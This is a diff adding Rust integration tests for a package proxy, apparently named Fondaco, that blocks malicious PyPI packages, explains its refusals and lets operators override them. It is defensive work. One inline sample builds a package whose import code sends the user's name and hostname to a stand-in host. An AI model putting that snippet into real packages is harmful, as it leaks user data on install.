@@ -1,0 +1,182 @@
+//! A hostile package is refused with its reasons, and there is a way out.
+
+use fondaco_testkit::samples::attacks;
+use fondaco_testkit::{Clients, Dist, Sdist};
+
+use crate::house::{House, path, wheel};
+
+#[test]
+fn each_attack_is_blocked_for_pip_and_uv_with_its_reasons() {
+    let house = House::new();
+    let clients = Clients::new();
+    let index = house.fondaco.index_url();
+    for sample in attacks::ALL {
+        for dist in sample.dists() {
+            house.upstream.publish(&dist);
+        }
+        // --no-deps and no build isolation: the refusal comes before anything would be built.
+        let pip = clients.pip(&["install", "--index-url", &index, "--no-deps", sample.project]);
+        assert!(!pip.success(), "{}: {}", sample.about, pip.text());
+        assert!(pip.text().contains("blocked by Fondaco (malicious: "), "{}: {}", sample.about, pip.text());
+        assert!(pip.text().contains("/reports/"), "{}", pip.text());
+        let uv = clients.uv(&["pip", "install", "--default-index", &index, "--no-deps", sample.project]);
+        assert!(!uv.success(), "{}: {}", sample.about, uv.text());
+        assert!(uv.text().contains("403"), "{}: {}", sample.about, uv.text());
+        assert!(clients.installed(fondaco_testkit::Installer::Pip).is_empty());
+        assert!(clients.installed(fondaco_testkit::Installer::Uv).is_empty());
+    }
+    let served = house.fondaco.admin(&["downloads", "--format", "ndjson"]).ok().stdout;
+    assert_eq!(served, "", "nothing was served");
+}
+
+#[test]
+fn the_answer_explains_itself_to_everybody() {
+    let house = House::new();
+    let bad = attacks::WALLET_STEALER.wheel().unwrap();
+    let project = attacks::WALLET_STEALER.project;
+    house.upstream.publish(&bad);
+    let address = path(project, &bad);
+    let answer = house.fondaco.get(&address, &[]);
+    assert_eq!(answer.status, 403);
+    let report = format!("/reports/{}", bad.sha256());
+    assert!(answer.reason.starts_with("blocked by Fondaco (malicious: "), "{}", answer.reason);
+    assert!(answer.reason.ends_with(&report), "{}", answer.reason);
+    assert_eq!(answer.header("content-type"), Some("application/problem+json"));
+    let problem = answer.json();
+    assert_eq!(problem["status"], 403);
+    let refusal = &problem["refusal"];
+    assert_eq!(
+        (refusal["decision"].as_str(), refusal["verdict"].as_str()),
+        (Some("block"), Some("malicious"))
+    );
+    assert!(!refusal["findings"].as_array().unwrap().is_empty());
+    assert!(!refusal["stages"].as_array().unwrap().is_empty());
+    let way_out = format!("fondaco admin allow {}", bad.sha256());
+    assert!(refusal["way_out"].as_str().unwrap().starts_with(&way_out));
+    // HEAD and .metadata are refused alike; the listing drops core-metadata.
+    let head = fondaco_testkit::fetch("HEAD", &house.fondaco.url(&address), &[], b"").unwrap();
+    assert_eq!((head.status, head.reason.as_str()), (403, answer.reason.as_str()));
+    assert_eq!(house.fondaco.get(&format!("{address}.metadata"), &[]).status, 403);
+    let listed = house.listed(project, &bad.file_name);
+    assert_eq!(listed["core-metadata"], false);
+    assert_eq!(listed["yanked"], false, "the only file keeps its yank state, so that pip asks for it");
+    assert_eq!(listed["_fondaco"]["decision"], "block");
+    let page = house.fondaco.get(&report, &[]);
+    assert_eq!(page.status, 200);
+    assert!(page.text().contains("malicious") && page.text().contains("Evidence"), "{}", page.text());
+    assert!(!page.text().contains("https://discord.com/api/webhooks/1234"), "the page is defanged");
+    let api = house.fondaco.get(&format!("/api/v1/files/{}", bad.sha256()), &[]).json();
+    assert_eq!(api["places"][0]["decision"], "block");
+    assert_eq!(api["report"]["verdict"], "malicious");
+}
+
+/// A good 1.0 and a bad 2.0 of one project, which has a wheel and an sdist.
+fn good_and_bad(house: &House, project: &str) -> (Dist, Dist, Dist) {
+    let good = wheel(project, "1.0");
+    let code = attacks::BASE64_CHAIN.files[0].1;
+    let module = project.replace('-', "_");
+    let bad =
+        fondaco_testkit::Wheel::new(project, "2.0").file(&format!("{module}/__init__.py"), code).build();
+    let sdist =
+        Sdist::new(project, "2.0").file("setup.py", "from setuptools import setup\nsetup()\n").build();
+    for dist in [&good, &bad, &sdist] {
+        house.upstream.publish(dist);
+    }
+    (good, bad, sdist)
+}
+
+#[test]
+fn resolvers_fall_back_to_a_safe_version_once_it_is_known() {
+    let house = House::new();
+    let (good, bad, sdist) = good_and_bad(&house, "two-faced");
+    let index = house.fondaco.index_url();
+    let first = Clients::new();
+    let run = first.pip(&["install", "--index-url", &index, "two-faced"]);
+    assert!(!run.success() && run.text().contains("blocked by Fondaco"), "{}", run.text());
+    let listed = house.listed("two-faced", &bad.file_name);
+    assert!(listed["yanked"].as_str().unwrap().starts_with("blocked by Fondaco (malicious: "), "{listed}");
+    assert_eq!(listed["_fondaco"]["upstream-yanked"], false);
+    // The sdist of the same release is refused with it, or pip would fall back to that.
+    assert!(house.listed("two-faced", &sdist.file_name)["yanked"].is_string());
+    assert_eq!(house.fondaco.get(&path("two-faced", &sdist), &[]).status, 403);
+    assert_eq!(house.listed("two-faced", &good.file_name)["yanked"], false);
+    let html = house.fondaco.get("/simple/two-faced/", &[("Accept", "text/html")]).text();
+    assert!(html.contains("data-yanked=\"blocked by Fondaco"), "{html}");
+    let second = Clients::new();
+    second.pip(&["install", "--index-url", &index, "two-faced"]).ok();
+    second.uv(&["pip", "install", "--default-index", &index, "two-faced"]).ok();
+    assert_eq!(second.installed(fondaco_testkit::Installer::Pip), ["two_faced-1.0"]);
+    assert_eq!(second.installed(fondaco_testkit::Installer::Uv), ["two_faced-1.0"]);
+    // Who pins the bad version gets the refusal itself, or is told the reason.
+    let pinned = second.pip(&["install", "--index-url", &index, "two-faced==2.0"]);
+    assert!(pinned.text().contains("blocked by Fondaco"), "{}", pinned.text());
+    let pinned = second.uv(&["pip", "install", "--default-index", &index, "two-faced>=2"]);
+    assert!(pinned.text().contains("blocked by Fondaco"), "{}", pinned.text());
+}
+
+#[test]
+fn an_operator_stands_above_the_verdict() {
+    let house = House::new();
+    let (_, bad, sdist) = good_and_bad(&house, "debated");
+    let address = path("debated", &bad);
+    assert_eq!(house.fondaco.get(&address, &[]).status, 403);
+    let digest = bad.sha256().to_string();
+    let refused = house.fondaco.admin(&["allow", &digest, "--reason", " "]);
+    assert!(!refused.success(), "a reason is needed");
+    house.fondaco.admin(&["allow", &digest, "--reason", "read it, it is ours", "--expires", "30d"]).ok();
+    assert_eq!(house.fondaco.get(&address, &[]).status, 200);
+    assert_eq!(house.listed("debated", &bad.file_name)["yanked"], false);
+    assert_eq!(house.fondaco.get(&path("debated", &sdist), &[]).status, 200, "its sibling is free again");
+    let decisions = house.fondaco.admin(&["decisions"]).ok().stdout;
+    assert!(decisions.contains("read it, it is ours") && decisions.contains("allow"), "{decisions}");
+    let audit = house.fondaco.admin(&["audit", "--format", "ndjson"]).ok().stdout;
+    assert!(audit.contains("\"allow-file\"") && audit.contains("read it, it is ours"), "{audit}");
+    house.fondaco.admin(&["withdraw", "1", "--reason", "it was not"]).ok();
+    assert_eq!(house.fondaco.get(&address, &[]).status, 403);
+    // What is clean can be held.
+    let good = wheel("debated", "1.0");
+    assert_eq!(house.fondaco.get(&path("debated", &good), &[]).status, 200);
+    house.fondaco.admin(&["hold", &good.sha256().to_string(), "--reason", "wait"]).ok();
+    let held = house.fondaco.get(&path("debated", &good), &[]);
+    assert_eq!((held.status, held.reason.split(':').next()), (403, Some("held by Fondaco (by an operator)")));
+    assert!(!house.fondaco.admin(&["allow", &"0".repeat(64), "--reason", "x"]).success(), "unknown content");
+}
+
+#[test]
+fn what_could_not_be_analysed_is_held_and_says_what() {
+    let house = House::new();
+    let broken = Dist::raw("odd-one-1.0.tar.gz", b"this is no archive at all".to_vec());
+    house.upstream.publish(&broken);
+    let answer = house.fondaco.get(&path("odd-one", &broken), &[]);
+    assert_eq!(answer.status, 403);
+    assert!(
+        answer.reason.starts_with("held by Fondaco (not everything in it could be analysed)"),
+        "{}",
+        answer.reason
+    );
+    let refusal = &answer.json()["refusal"];
+    assert_eq!(
+        (refusal["decision"].as_str(), refusal["verdict"].as_str()),
+        (Some("hold"), Some("incomplete"))
+    );
+    assert!(!refusal["unscanned"].as_array().unwrap().is_empty());
+}
+
+/// A package on the edge: bad enough to look at, not enough to block.
+fn suspicious() -> Dist {
+    let code = "import os, platform, getpass, urllib.request\n\
+        urllib.request.urlopen('http://x.example.invalid/?u=' + getpass.getuser() + platform.node())\n";
+    fondaco_testkit::Wheel::new("nosy", "1.0").file("nosy/__init__.py", code).build()
+}
+
+#[test]
+fn the_policy_decides_on_what_is_suspicious() {
+    for (policy, status) in [("hold", 403), ("allow", 200)] {
+        let house = House::with_config(&format!("[policy]\nsuspicious = \"{policy}\"\n"));
+        let dist = suspicious();
+        house.upstream.publish(&dist);
+        assert_eq!(house.fondaco.get(&path("nosy", &dist), &[]).status, status, "{policy}");
+        let api = house.fondaco.get(&format!("/api/v1/files/{}", dist.sha256()), &[]).json();
+        assert_eq!(api["report"]["verdict"], "suspicious");
+    }
+}
